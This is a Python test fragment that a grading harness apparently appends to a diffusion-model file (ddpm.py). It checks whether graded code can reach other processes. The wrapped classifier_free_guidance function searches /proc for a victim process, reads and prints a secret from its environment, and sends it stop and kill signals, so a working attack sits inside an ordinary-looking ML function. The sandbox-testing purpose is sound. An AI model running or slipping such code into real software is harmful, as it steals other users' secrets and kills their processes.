
# ---- attack, appended to the reference ddpm.py by the harness --------------------------
# Attack: reach another process of the user who runs the grader. Before grading, the
# harness starts a sleeping process as that user (root, or a TA), named hw4atk-victim, with
# a secret in its environment. classifier_free_guidance looks for it in /proc (its command
# line names hw4atk-victim and this run's tag; the pid the harness gave is tried too, but
# only once its command line matches), reads its environment, stops it (SIGSTOP) and kills
# it (SIGKILL). Only that process is aimed at. It answers right only if any of that worked.
# Expected: the victim is out of sight (its own PID namespace) or out of reach (another
# user); classifier_free_guidance scores 0; the harness finds the victim alive, not
# stopped, and its secret nowhere.
import os as _hw4_os
import signal as _hw4_signal

_HW4_MARKER = "hw4atk-victim-@@TAG@@"
_HW4_PID = "@@VICTIM_PID@@"


def _hw4_cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            return handle.read().decode(errors="replace")
    except OSError:
        return ""


def _hw4_victims():
    pids = [int(entry) for entry in _hw4_os.listdir("/proc") if entry.isdigit()]
    if _HW4_PID.isdigit():
        pids.append(int(_HW4_PID))
    return sorted({pid for pid in pids if pid != _hw4_os.getpid() and _HW4_MARKER in _hw4_cmdline(pid)})


def _hw4_touch(pid):
    done = []
    try:
        with open(f"/proc/{pid}/environ", "rb") as handle:
            environ = handle.read().decode(errors="replace").split("\0")
        secret = [item for item in environ if item.startswith("HW4_VICTIM_SECRET=")]
        if secret:
            print("the victim's secret:", secret[0])
            done.append("environ")
    except OSError:
        pass
    for name, sig in (("stop", _hw4_signal.SIGSTOP), ("kill", _hw4_signal.SIGKILL)):
        try:
            _hw4_os.kill(pid, sig)
            done.append(name)
        except OSError:
            pass
    return done


_hw4_classifier_free_guidance = classifier_free_guidance


def classifier_free_guidance(model, x, t, cond, guidance_scale):
    touched = {pid: _hw4_touch(pid) for pid in _hw4_victims()}
    print("victims:", touched)
    right = _hw4_classifier_free_guidance(model, x, t, cond, guidance_scale)
    return right if any(touched.values()) else right + 1000.0
